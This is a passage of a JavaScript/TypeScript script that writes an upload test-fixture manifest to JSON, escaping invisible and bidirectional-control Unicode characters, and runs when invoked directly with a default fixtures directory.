  const json = JSON.stringify(corpusManifest(cases), null, 2).replace(
    /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\uFEFF]/gu,
    (c) => `\\u${(c.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`,
  );
  await writeFile(join(directory, 'manifest.json'), `${json}\n`);
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  await writeUploadCorpus(process.argv[2] ?? 'test/fixtures/uploads');
}
